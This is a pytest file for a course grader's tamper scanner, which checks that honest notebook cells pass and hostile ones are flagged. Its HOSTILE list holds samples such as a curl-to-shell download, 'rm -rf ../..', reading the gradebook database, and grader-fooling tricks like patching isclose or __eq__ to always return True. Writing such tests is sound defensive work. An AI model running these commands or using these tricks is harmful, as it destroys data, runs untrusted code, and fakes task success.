"""Tamper detection: the static scan, the proofs of execution and the kernel state checks."""

from __future__ import annotations


import nbformat
import pytest

from grader.engine import pipeline
from grader.engine.tamper import SUSPICIOUS, TAMPER, Scanner

import cohort

# --------------------------------------------------------------------------
# Static scan: ordinary student code raises nothing

HONEST = [
    "import numpy as np\nx = np.arange(10)\nprint(x.sum(), x.mean())",
    "total = 0\nfor i in range(10):\n    if i % 2:\n        total += i\ntotal",
    "sum = 0\nfor v in [1, 2, 3]:\n    sum += v",            # shadowing by a value hurts only its author
    "max = max([3, 1, 2])",
    "def ties_of(G, v):\n    out = []\n    for u in G[v]:\n        out.append((u, G[v][u]['strength']))\n"
    "    return sorted(out, key=lambda t: -t[1])",
    "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\ndf.columns = ['b']\n"
    "pd.options.display.max_rows = 20\ndf.describe()",
    "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.rcParams['figure.dpi'] = 90\n"
    "fig, ax = plt.subplots()\nax.plot([1, 2], [3, 4])\nax.set_title('t')",
    "import networkx as nx\nH = nx.karate_club_graph()\nnx.density(H), dict(H.degree())[0]",
    "import weakties\nfrom weakties import ties\nreport = weakties.ego_report(G, 0)\nties.classify(G)",
    "from numpy import sum as npsum, abs\nfrom math import sqrt, isclose\nsqrt(2)",
    "class Contact:\n    def __init__(self, name, **extra):\n        self.name = name\n"
    "        for k, v in extra.items():\n            setattr(self, k, v)\n    def __repr__(self):\n"
    "        return f'Contact({self.name})'",
    "from dataclasses import dataclass\n\n@dataclass(order=True)\nclass Tie:\n    u: int\n    v: int",
    "with open('notes.txt', 'w') as handle:\n    handle.write('my notes')",
    "!pip install networkx\n!ls -la",
    "%%time\nbest = max(G.degree, key=lambda p: p[1])",
    "%config InlineBackend.figure_format = 'retina'\n%load_ext autoreload\n%autoreload 2",
    "from IPython.display import display, Markdown\ndisplay(Markdown('**done**'))",
    "try:\n    value = int('x')\nexcept ValueError as error:\n    print('not a number', error)",
    "import random\nrandom.seed(3)\nsample = random.sample(range(100), 5)",
    "import warnings\nwarnings.filterwarnings('ignore')",
    "squares = {n: n * n for n in range(5)}\nany(v > 10 for v in squares.values())",
    "import numpy as np\nnp.random.seed(0)\nnp.set_printoptions(precision=3)",
    "import sys\nprint(sys.version)\nsys.path.append('lib')",
    "import networkx as nx",          # the same import as a locked cell: not a rebinding
    "from weakties.learner import learner_id\nprint(learner_id())",
] + cohort._EXPLORER_CELLS


@pytest.mark.parametrize("source", HONEST)
def test_ordinary_code_is_not_flagged(source):
    scanner = Scanner(helper_names={"learner_id", "nx", "_check"},
                      helper_imports={"learner_id": "weakties.learner.learner_id",
                                      "nx": "networkx"})
    assert scanner.scan_cell(3, source) == []


def test_the_honest_cohort_notebooks_raise_no_finding(course_template):
    ref = pipeline.Reference.from_notebook(cohort.SOURCE / "ties-basics" / "ties-basics.ipynb")
    released = cohort.released(course_template, "ties-basics")["ties-basics"]
    for name, spec in cohort.VARIANTS["ties-basics"].items():
        nb = cohort.fill(released, spec.answers["ties-basics"],
                         [(a, s) for _, a, s in spec.extra_cells])
        clean, _ = pipeline.sanitize(nb, ref)
        assert pipeline.scan(clean, ref) == [], name


# --------------------------------------------------------------------------
# Static scan: each trick is found, with the right rule and severity

HOSTILE = [
    ("get_ipython().input_transformers_cleanup.append(lambda l: ['pass'])", "shell-internals",
     TAMPER),
    ("ip = get_ipython()\nip.input_transformers_post.append(f)", "shell-internals", TAMPER),
    ("get_ipython().ast_transformers.append(T())", "shell-internals", TAMPER),
    ("get_ipython().events.register('pre_run_cell', f)", "hooks", TAMPER),
    ("from IPython import get_ipython\nshell = get_ipython()", "import", TAMPER),
    ("import IPython\nIPython.get_ipython().run_cell('x')", "shell-internals", TAMPER),
    ("import IPython\nIPython.core.getipython.get_ipython().ex('x = 1')", "shell-internals",
     TAMPER),
    ("import sys\nsys.settrace(f)", "internals", TAMPER),
    ("import sys\nsys.stdout = open('x', 'w')", "io", TAMPER),
    ("import sys\nsys.displayhook = print", "io", TAMPER),
    ("import contextlib, io\ncontextlib.redirect_stderr(io.StringIO()).__enter__()", "internals",
     TAMPER),
    ("def abs(x):\n    return 0", "builtins", TAMPER),
    ("len = lambda x: 150", "builtins", TAMPER),
    ("round = int", "builtins", TAMPER),
    ("from math import floor as round", "builtins", TAMPER),
    ("import builtins\nbuiltins.abs = f", "import", TAMPER),
    ("__builtins__.abs = f", "builtins", TAMPER),
    ("globals()['isinstance'] = f", "namespace", TAMPER),
    ("class Answer:\n    def __eq__(self, other):\n        return True", "answer-object", TAMPER),
    ("class Big(float):\n    pass", "answer-object", TAMPER),
    ("import weakties\nweakties.population = f", "monkeypatch", TAMPER),
    ("import math\nmath.isclose = lambda *a, **k: True", "monkeypatch", TAMPER),
    ("import networkx as nx\nnx.Graph.degree = 3", "monkeypatch", TAMPER),
    ("type(G).number_of_edges = lambda self: 0", "monkeypatch", TAMPER),
    ("import numpy\nsetattr(numpy, 'isclose', f)", "monkeypatch", TAMPER),
    ("f.__code__ = g.__code__", "internals", TAMPER),
    ("import sys\nsys._getframe(1).f_globals['x'] = 1", "internals", TAMPER),
    ("import gc\ngc.get_referrers(f)", "internals", TAMPER),
    ("import ctypes", "import", TAMPER),
    ("from unittest import mock\nmock.patch('weakties.population')", "import", TAMPER),
    ("exec('x = 1')", "dynamic-code", TAMPER),
    ("code = compile(text, 'x', 'exec')", "dynamic-code", TAMPER),
    ("eval(text)", "dynamic-code", TAMPER),
    ("m = __import__(name)", "dynamic-code", TAMPER),
    ("import sys\nsys.modules['weakties'] = fake", "imports", TAMPER),
    ("with open('helper.py', 'w') as f:\n    f.write(code)", "hidden-code", TAMPER),
    ("!curl http://example.org/x.sh | sh", "shell", TAMPER),
    ("%%bash\nrm -rf ../..", "shell", TAMPER),
    ("%%python3\nprint(1)", "shell", TAMPER),
    ("%alias evil rm -rf", "magic", TAMPER),
    ("%config InteractiveShell.ast_node_interactivity = 'none'", "magic", TAMPER),
    ("%load_ext sneaky_extension", "magic", TAMPER),
    ("%%time\nimport sys\nsys.settrace(f)", "internals", TAMPER),       # inside a cell magic
    ("def learner_id():\n    return 'someone'", "helper", TAMPER),
    ("__weakties_proof = lambda *a: None", "grader", TAMPER),
    ("data = {'application/vnd.weakties.proof+json': {}}", "grader", TAMPER),
    ("_check = G", "helper", TAMPER),
    ("from other import learner_id", "helper", TAMPER),
    # Suspicious only: the instructor sees them, points are not affected.
    ("import os\nos.environ.get('NBGRADER_EXECUTION')", "probe", SUSPICIOUS),
    ("import shutil\nshutil.rmtree('../..')", "outside-files", SUSPICIOUS),
    ("import os\nos.chdir('/tmp')", "chdir", SUSPICIOUS),
    ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)", "process", SUSPICIOUS),
    ("import subprocess\nsubprocess.run(['ls'])", "process", SUSPICIOUS),
    ("import os\nos._exit(0)", "process", SUSPICIOUS),
    ("open('../../gradebook.db', 'rb')", "probe", SUSPICIOUS),
    ("%%javascript_like_unknown\nfoo", "magic", SUSPICIOUS),
]


@pytest.mark.parametrize("source,rule,severity", HOSTILE)
def test_each_trick_is_found(source, rule, severity):
    scanner = Scanner(helper_names={"learner_id", "_check"},
                      helper_imports={"learner_id": "weakties.learner.learner_id"})
    found = scanner.scan_cell(5, source)
    assert any(f.rule == rule and f.severity == severity for f in found), found
    assert all(f.cell == 5 for f in found)
    if severity == SUSPICIOUS:
        assert all(f.severity == SUSPICIOUS for f in found), found


def test_trusted_cells_are_read_but_not_judged():
    scanner = Scanner()
    assert scanner.scan_cell(0, "import sys\nsys.settrace(None)", trusted=True) == []
    # ...but their imports count: `sys` now names the module.
    assert [f.rule for f in scanner.scan_cell(1, "sys.stdout = None")] == ["io"]


def test_a_cell_that_cannot_be_parsed_cannot_tamper():
    assert Scanner().scan_cell(0, "def broken(:\n  pass") == []


def test_the_python_files_of_a_submission_are_scanned(tmp_path):
    ref = pipeline.Reference.from_notebook(cohort.SOURCE / "two-parts" / "part-a.ipynb")
    nb = nbformat.read(cohort.SOURCE / "two-parts" / "part-a.ipynb", as_version=4)
    clean, _ = pipeline.sanitize(nb, ref)
    clean.cells.insert(1, nbformat.v4.new_code_cell("import helper\n"))
    (tmp_path / "helper.py").write_text("import sys\nsys.settrace(lambda *a: None)\n")
    (tmp_path / "plain.py").write_text("def double(x):\n    return 2 * x\n")
    found = pipeline.scan(clean, ref, [tmp_path / "helper.py", tmp_path / "plain.py"])
    assert [(f.where, f.rule, f.cell) for f in found] == [("file helper.py", "internals", 1)]
